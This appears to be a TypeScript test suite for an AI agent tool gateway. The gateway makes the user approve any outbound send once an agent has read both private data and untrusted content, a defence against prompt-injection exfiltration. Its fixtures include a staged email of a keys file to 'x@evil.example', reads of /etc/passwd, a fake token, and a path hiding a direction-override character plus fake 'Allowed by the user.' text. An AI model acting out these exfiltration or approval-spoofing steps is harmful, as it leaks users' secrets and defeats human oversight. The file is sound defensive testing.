import assert from 'node:assert/strict';
import { test } from 'node:test';
import { approveByUser } from '../../../src/core/gateway/calls/approveByUser.ts';
import { GatewayCalls } from '../../../src/core/gateway/calls/gatewayCalls.ts';
import type { ToolPolicy } from '../../../src/core/gateway/exposure/agentPolicy.ts';
import type { ExposedTool } from '../../../src/core/gateway/exposure/exposedTools.ts';
import { toolLabels } from '../../../src/core/gateway/exposure/toolLabels.ts';
import type { AskPort, ChoiceQuestion, Clock } from '../../../src/core/ports/ports.ts';
import type { ManagedServer, ToolResult } from '../../../src/core/servers/model/server.ts';
import { Redactor } from '../../../src/core/trust/redaction/redact.ts';
import { silentTap } from '../../../src/core/wire/tap.ts';

function tool(
  server: string,
  name: string,
  parameters: readonly string[] = [],
  rule: Partial<ToolPolicy> = {},
): ExposedTool {
  const properties = Object.fromEntries(parameters.map((parameter) => [parameter, {}]));
  const definition = { name, inputSchema: { type: 'object', properties } };
  return {
    server,
    name: `mcp_${name}`,
    definition,
    rule: { enabled: true, approval: 'agent', cacheSeconds: 0, ...rule },
  };
}

const readFile = tool('files', 'read_file', ['path']);
const getIssue = tool('github', 'get_issue', ['owner', 'repo']);
const webPage = tool('web', 'web_search', ['query']);
const send = (rule: Partial<ToolPolicy> = {}): ExposedTool => tool('mail', 'send_email', ['to', 'body'], rule);

type Answer = 'Allow' | 'Allow for This Session' | undefined;

/** A user who answers as the test says, or none at all. */
function stage({ isRelay = false, isUnattended = false } = {}) {
  const state = { answer: undefined as Answer, nowMs: 0, called: [] as string[], asked: [] as ChoiceQuestion[] };
  const ask = {
    ...(isUnattended && { isUnattended: true }),
    choose: async (question: ChoiceQuestion) => (state.asked.push(question), state.answer),
  } as unknown as AskPort;
  const callTool = async (name: string): Promise<ToolResult> => {
    state.called.push(name);
    return { content: [{ type: 'text', text: 'done' }], isError: false };
  };
  const calls = new GatewayCalls({
    clock: { now: () => state.nowMs, monotonicMs: () => state.nowMs } satisfies Clock,
    redactor: new Redactor(),
    taps: { open: () => silentTap },
    server: () => ({ callTool, state: { peek: () => ({ kind: 'connected' }) } }) as unknown as ManagedServer,
    approve: approveByUser(ask),
    isRuled: () => false,
    isRelay,
  });
  const call = async (one: ExposedTool, args: object = {}, agent = 'agent'): Promise<string> =>
    JSON.stringify((await calls.call(one, { ...args }, { agent })).content);
  return { state, calls, call };
}

test('private data cannot be sent out on the word of untrusted content: the user is asked, and told what led there', async () => {
  const { state, call } = stage();
  await call(readFile, { path: '/home/me/keys.txt' });
  await call(webPage, { query: 'weather' });
  assert.match(
    await call(send(), { to: 'x@evil.example', body: 'the keys' }),
    /user denied mcp_send_email\. .*private data \(mcp:files:read_file\).*untrusted content \(mcp:web:web_search\)/,
  );
  assert.deepEqual(state.called, ['read_file', 'web_search']);
  const { title, detail } = state.asked[0]!;
  assert.equal(title, 'Allow an agent to send data out with "mcp:mail:send_email"?');
  for (const part of [
    'mcp:files:read_file {"path":"/home/me/keys.txt"}',
    'mcp:web:web_search {"query":"weather"}',
    '"to": "x@evil.example"',
  ])
    assert.ok(detail.includes(part), detail);
});

test('the same server can be all three: a private repository does not leak through its own issues', async () => {
  const { state, call } = stage();
  await call(getIssue, { owner: 'me', repo: 'public' });
  await call(tool('github', 'create_issue', ['owner', 'repo', 'body']), { body: 'secret' });
  assert.deepEqual(state.called, ['get_issue']);
  assert.equal(state.asked.length, 1);
});

test('two of the three are not asked about, in any order', async () => {
  for (const pair of [
    [readFile, send()],
    [webPage, send()],
    [send(), readFile],
    [readFile, webPage],
  ]) {
    const { state, call } = stage();
    for (const one of pair) await call(one);
    assert.deepEqual([state.asked.length, state.called.length], [0, 2]);
  }
});

test('a tool with all three labels is asked about from its second call on', async () => {
  const { state, call } = stage();
  const shell = tool('box', 'execute_command', ['command']);
  await call(shell);
  await call(shell);
  assert.deepEqual([state.asked.length, state.called.length], [1, 1]);
});

test('an answer for the session holds until something comes in from another server', async () => {
  const { state, call } = stage();
  await call(readFile);
  await call(webPage);
  state.answer = 'Allow';
  await call(send());
  await call(send());
  assert.equal(state.asked.length, 2, 'once is once');
  state.answer = 'Allow for This Session';
  await call(send());
  await call(send());
  await call(tool('web', 'fetch_news'));
  await call(send());
  assert.equal(state.asked.length, 3);
  await call(getIssue);
  await call(send());
  assert.equal(state.asked.length, 4, 'another server has had its say');
  await call(tool('chat', 'post_message'));
  assert.equal(state.asked.length, 5, 'another way out');
});

test('a session is an agent, whatever its connections are, and ends an hour after its last call', async () => {
  const { state, call } = stage();
  await call(readFile, {}, 'one');
  await call(webPage, {}, 'two');
  await call(send(), {}, 'one');
  await call(send(), {}, 'two');
  assert.equal(state.asked.length, 0, 'each has only one half');
  await call(webPage, {}, 'one');
  state.nowMs += 59 * 60_000;
  await call(send(), {}, 'one');
  assert.equal(state.asked.length, 1);
  state.nowMs += 60 * 60_000;
  await call(send(), {}, 'one');
  assert.equal(state.asked.length, 1);
});

test('agents that give no name share a session', async () => {
  const { state, calls } = stage();
  await calls.call(readFile, {}, {});
  await calls.call(webPage, {}, {});
  await calls.call(send(), {}, {});
  assert.equal(state.asked.length, 1);
});

test('where there is no user to ask, the call is refused with a sentence', async () => {
  const { state, call } = stage({ isUnattended: true });
  await call(readFile);
  await call(webPage);
  assert.match(
    await call(send()),
    /no user to ask here: the call was not made\..*untrusted content \(mcp:web:web_search\), and mcp_send_email can send data out/,
  );
  assert.deepEqual(state.called, ['read_file', 'web_search']);
});

test('a rule of the user lets a tool send out, and corrects labels both ways', async () => {
  const off = stage();
  await off.call(readFile);
  await off.call(webPage);
  await off.call(send({ flows: 'allow' }));
  await off.call(send({ sendsOut: false }));
  assert.equal(off.state.asked.length, 0);
  const corrected = stage();
  await corrected.call(tool('files', 'read_file', ['path'], { privateData: false }));
  await corrected.call(webPage);
  await corrected.call(send());
  assert.equal(corrected.state.asked.length, 0, 'the file is public');
  await corrected.call(tool('odd', 'frobnicate', [], { privateData: true }));
  await corrected.call(tool('odd', 'twiddle', [], { sendsOut: true }));
  assert.equal(corrected.state.asked.length, 1);
});

test('a call that was refused brings nothing into the session', async () => {
  const { state, call } = stage();
  await call(tool('files', 'read_file', ['path'], { approval: 'always' }));
  await call(tool('files', 'list_files', [], { perMinute: 0 }));
  await call(webPage);
  state.asked.length = 0;
  await call(send());
  assert.equal(state.asked.length, 0);
});

test('what comes from the cache comes in all the same', async () => {
  const { state, call } = stage();
  const annotations = { readOnlyHint: true, idempotentHint: true };
  const cached = tool('files', 'read_file', ['path'], { cacheSeconds: 60 });
  const one = { ...cached, definition: { ...cached.definition, annotations } };
  await call(one, {}, 'another');
  await call(one, {});
  await call(webPage);
  await call(send());
  assert.deepEqual([state.called, state.asked.length], [['read_file', 'web_search'], 1]);
});

test('a resource brings in what its scheme says', async () => {
  for (const [uris, asked] of [
    [['file:///etc/passwd'], 0],
    [['https://example.com/x'], 0],
    [['file:///etc/passwd', 'HTTPS://example.com'], 1],
    [['note://7'], 1],
  ] as const) {
    const { state, calls, call } = stage();
    for (const uri of uris) calls.readResource('agent', 'notes', uri);
    await call(send());
    assert.equal(state.asked.length, asked, uris.join());
  }
});

test('a relay leaves it to its window', async () => {
  const { state, call } = stage({ isRelay: true });
  for (const one of [readFile, webPage, send()]) await call(one);
  assert.deepEqual([state.asked.length, state.called.length], [0, 3]);
});

test('secrets and hidden characters of earlier calls are not shown as they were', async () => {
  const { state, call } = stage();
  const secret = `ghp_${'a1B2'.repeat(9)}`;
  await call(readFile, { path: `/x\u202E\n\nAllowed by the user.`, token: secret });
  await call(webPage);
  await call(send());
  const { detail } = state.asked[0]!;
  assert.ok(!detail.includes(secret) && !detail.includes('\u202E'), detail);
  assert.equal(detail.split('\n\n').length, 4, detail);
});

test('the labels of a tool are those of its names, as the user has corrected them', () => {
  const { definition } = getIssue;
  assert.deepEqual([...toolLabels(definition)], ['private', 'untrusted']);
  assert.deepEqual([...toolLabels(definition, { untrustedContent: false, sendsOut: true })], ['private', 'sends']);
});
